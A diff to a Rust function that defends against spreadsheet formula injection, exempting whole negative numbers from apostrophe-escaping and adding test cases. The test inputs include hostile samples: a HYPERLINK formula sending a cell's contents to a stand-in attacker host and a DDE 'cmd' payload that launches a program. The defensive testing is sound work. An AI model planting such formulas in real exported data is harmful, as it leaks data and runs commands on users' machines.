@@ -6,9 +6,14 @@ use std::borrow::Cow;
 const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
 
 /// `cell`, with an apostrophe in front when it would start a formula. The apostrophe
-/// shows in the cell, which is the point: the reader sees the text as it was typed.
+/// shows in the cell, which is the point: the reader sees the text as it was typed. A
+/// whole negative number ("-5000", an amount over budget) is left as it is: it is no
+/// formula, and a spreadsheet must read it as a number.
 pub fn neutralise(cell: &str) -> Cow<'_, str> {
-    if cell.starts_with(FORMULA_STARTS) {
+    let negative_number = cell
+        .strip_prefix('-')
+        .is_some_and(|digits| !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit()));
+    if cell.starts_with(FORMULA_STARTS) && !negative_number {
         Cow::Owned(format!("'{cell}"))
     } else {
         Cow::Borrowed(cell)
@@ -54,13 +59,24 @@ mod tests {
             "=HYPERLINK(\"https://evil.example/?\"&C3,\"Klikk\")",
             "+1+cmd|' /C calc'!A0",
             "-2+3",
+            "-",
+            "-1e3",
+            "+5000",
             "@SUM(A1:A9)",
             "\t=1",
             "\r=1",
         ] {
             assert_eq!(neutralise(evil), format!("'{evil}"));
         }
-        for plain in ["Møteplass", "2025-01-01", "150000", "", " =not first"] {
+        for plain in [
+            "Møteplass",
+            "2025-01-01",
+            "150000",
+            "",
+            " =not first",
+            "-5000",
+            "–",
+        ] {
             assert_eq!(neutralise(plain), plain);
         }
     }
